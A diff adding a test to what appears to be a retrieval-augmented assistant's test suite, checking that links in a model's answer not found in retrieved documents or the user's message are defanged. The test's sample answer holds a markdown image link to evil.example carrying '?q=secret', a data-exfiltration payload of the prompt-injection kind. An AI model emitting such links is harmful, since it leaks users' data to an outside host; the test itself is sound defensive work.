@@ -238,6 +238,19 @@ async def test_a_search_that_is_given_up_after_it_was_charged_counts(
     assert (run.status, run.spus) == (Status.CANCELLED, 1)
 
 
+async def test_an_answer_leads_nowhere_that_the_run_has_not_been(asked: Asked, knowledge: Knowledge) -> None:
+    text = "The manual of locks is at https://locks.example/manual today."
+    await knowledge.index(Document("manual", [text], name="manual.md"))
+    run = await asked.run(
+        {"tool_calls": [search(text)]},
+        {"text": "![x](https://evil.example/?q=secret) https://locks.example/manual, https://asked.example [1]"},
+        messages=[{"role": "user", "content": "What of https://asked.example?"}],
+    )
+    assert run["answer"] == (
+        "![x] (https[:]//evil.example/?q=secret) https://locks.example/manual, https://asked.example [1]"
+    )
+
+
 async def test_a_model_that_obeys_what_a_passage_says_reaches_nothing_else(
     asked: Asked, knowledge: Knowledge, search_database: Database
 ) -> None:
